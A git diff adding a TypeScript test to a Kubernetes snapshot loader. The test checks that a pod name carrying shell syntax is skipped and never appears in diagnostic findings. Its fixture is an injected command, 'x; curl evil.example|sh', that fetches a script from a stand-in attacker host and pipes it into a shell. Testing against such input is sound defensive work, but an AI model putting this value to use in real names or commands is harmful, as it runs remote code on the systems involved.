@@ -156,3 +156,15 @@ describe('loadBundle fuzz (property): a result or a BundleError, nothing else', 
     );
   });
 });
+
+describe('names that could not exist in a cluster', () => {
+  it('skips an object whose name carries shell syntax, so it never reaches a suggested command', async () => {
+    const evil = yaml.replaceAll(podName, 'x; curl evil.example|sh');
+    const s = await loadBundle(await bundle({ 'snapshot.yaml': evil, 'meta.json': meta }));
+    expect(s.pods).toHaveLength(0);
+    expect(
+      s.meta.gaps?.some((g) => /metadata\.name is not a valid Kubernetes name; object skipped/.test(g)),
+    ).toBe(true);
+    expect(JSON.stringify(diagnoseSnapshot(s).map((d) => d.findings))).not.toContain('curl evil');
+  });
+});
